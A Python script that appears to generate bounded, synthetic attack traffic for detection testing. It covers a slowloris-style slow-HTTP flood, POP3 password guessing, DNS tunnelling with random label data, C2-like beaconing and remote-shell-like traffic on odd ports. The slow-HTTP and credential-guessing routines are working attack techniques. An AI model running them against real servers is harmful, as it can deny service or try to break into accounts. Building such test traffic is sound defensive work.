#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks that no program of Debian makes, each bounded in number and rate, and a server for odd
ports. `run` starts them in a namespace without a way out.

    hostile.py answer PORT | slow-http HOST | pop3-guess HOST | tunnel HOST | beacon HOST PORT
               | odd-port HOST PORT
"""

import poplib
import random
import socket
import sys
import threading
import time

from ordinary import query

RNG = random.Random(7)


def answer(port):
    """Answers each message with one of the same length, like a remote shell or a file share."""
    def serve(s):
        with s:
            s.settimeout(30)
            try:
                while data := s.recv(4096):
                    s.sendall(bytes(b ^ 0x5a for b in data))
            except OSError:
                pass

    with socket.create_server(("", int(port)), backlog=64) as listener:
        while True:
            threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()


def slow_http(host, connections=60, seconds=22):
    """Requests whose headers never end."""
    held = []
    for _ in range(connections):
        s = socket.create_connection((host, 80), 5)
        s.sendall(b"GET / HTTP/1.1\r\nHost: web.example\r\n")
        held.append(s)
        time.sleep(.02)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(4)
        for s in held:
            try:
                s.sendall(b"X-A: b\r\n")
            except OSError:
                pass


def pop3_guess(host, times=15):
    for i in range(times):
        try:
            s = poplib.POP3(host, timeout=5)
            s.user("carol")
            s.pass_(f"guess-{i}")
        except (OSError, poplib.error_proto):
            pass
        finally:
            s.close()


def tunnel(host, times=200):
    """Data in the labels of names."""
    del host  # the name server is known
    for _ in range(times):
        labels = [RNG.randbytes(30).hex() for _ in range(3)]
        query(".".join(labels) + ".tunnel.example", RNG, 16 if RNG.random() < .5 else 1)
        time.sleep(.04)


def beacon(host, port, times=18, period=1.5):
    """The same short message to the same port, with a constant pause."""
    begin = time.monotonic()
    for i in range(times):
        with socket.create_connection((host, int(port)), 5) as s:
            s.sendall(b"POST /c HTTP/1.1\r\nHost: x\r\nContent-Length: 16\r\n"
                      b"Connection: close\r\n\r\n0123456789abcdef")
            while s.recv(4096):
                pass
        time.sleep(max(0, begin + (i + 1) * period - time.monotonic()))


def odd_port(host, port, times=4):
    """A conversation like that of a remote shell."""
    for _ in range(times):
        with socket.create_connection((host, int(port)), 5) as s:
            for _ in range(12):
                s.sendall(RNG.randbytes(RNG.randint(5, 60)))
                s.recv(4096)
                time.sleep(.05)


if __name__ == "__main__":
    {"answer": answer, "slow-http": slow_http, "pop3-guess": pop3_guess, "tunnel": tunnel,
     "beacon": beacon, "odd-port": odd_port}[sys.argv[1]](*sys.argv[2:])
